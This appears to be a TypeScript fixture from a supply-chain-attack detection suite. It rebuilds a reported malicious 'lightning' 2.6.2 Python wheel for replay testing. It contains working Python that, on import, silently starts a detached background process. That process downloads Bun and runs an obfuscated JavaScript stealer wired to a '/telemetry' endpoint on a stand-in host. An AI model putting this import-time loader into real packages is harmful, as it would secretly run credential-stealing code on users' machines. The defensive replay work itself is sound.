import { beforeAttack, type Draft, type Remote, type Replay, siteIn } from './incident.ts';
import { nodeStealer, obfuscatedBundle } from './javascript.ts';
import { trainingLibrary } from './libraries/training.ts';
import { jupyterExtension, nodeWrapper } from './look-alikes/script.ts';
import { py } from './python-text.ts';

const LAUNCH = py`

def _run_runtime():
    import os
    import subprocess
    import sys

    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "_runtime", "start.py")
    subprocess.Popen(
        [sys.executable, script],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


import threading as _threading

_threading.Thread(target=_run_runtime, daemon=True).start()
`;

const START = py`"""Starts the runtime."""
import os
import platform
import stat
import subprocess
import tempfile
import urllib.request
import zipfile

VERSION = "1.3.13"
HERE = os.path.dirname(os.path.abspath(__file__))


def asset():
    system = {"Linux": "linux", "Darwin": "darwin", "Windows": "windows"}[platform.system()]
    machine = "aarch64" if platform.machine() in ("arm64", "aarch64") else "x64"
    return "bun-%s-%s" % (system, machine)


def bun():
    folder = os.path.join(tempfile.gettempdir(), "bun-" + VERSION)
    target = os.path.join(folder, asset(), "bun")
    if not os.path.exists(target):
        os.makedirs(folder, exist_ok=True)
        archive = os.path.join(folder, "bun.zip")
        url = "https://github.com/oven-sh/bun/releases/download/bun-v%s/%s.zip" % (VERSION, asset())
        urllib.request.urlretrieve(url, archive)
        with zipfile.ZipFile(archive) as stream:
            stream.extractall(folder)
        os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    return target


if __name__ == "__main__":
    subprocess.run([bun(), "run", os.path.join(HERE, "router_runtime.js")], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
`;

/** The real file was 11 MB. */
const BUNDLE_BYTES = 11_000_000;

export const lightningDraft = (bundleBytes: number): ((c: Remote) => Draft) => {
  return (c) => {
    const files = trainingLibrary('lightning', '2.6.2');
    return {
      kind: 'wheel',
      name: 'lightning',
      version: '2.6.2',
      files: {
        ...files,
        'lightning/_runtime/start.py': START,
        'lightning/_runtime/router_runtime.js': obfuscatedBundle(nodeStealer(c.url('/telemetry')), bundleBytes),
      },
      sites: [siteIn(files, 'lightning/__init__.py', LAUNCH)],
    };
  };
};

const ADDED = ['lightning/_runtime/start.py', 'lightning/_runtime/router_runtime.js'];

const SHARED = {
  source: 'https://github.com/Lightning-AI/pytorch-lightning/issues/21691',
  runs: 'import starts a bundled script in the background; it downloads Bun, makes it executable and runs bundled, obfuscated JavaScript',
  remote: 'https://zero.routing-metrics.invalid',
  predecessor: () => beforeAttack(lightningDraft(1000), '2.6.1', ADDED),
};

export const LIGHTNING: Replay = {
  ...SHARED,
  id: '19-lightning',
  title: 'lightning 2.6.2: Bun and 11 MB of obfuscated JavaScript started at import',
  draft: lightningDraft(BUNDLE_BYTES),
  isAsReportedOnly: true,
  lookAlikes: () => [jupyterExtension(), nodeWrapper()],
};

/** The rewrites concern the Python: they run over a bundle of a size that keeps the suite fast. */
export const LIGHTNING_SMALL: Replay = {
  ...SHARED,
  id: '19b-lightning-small',
  title: 'lightning 2.6.2 with a bundle of 300 KB',
  draft: lightningDraft(300_000),
  lookAlikes: () => [],
};
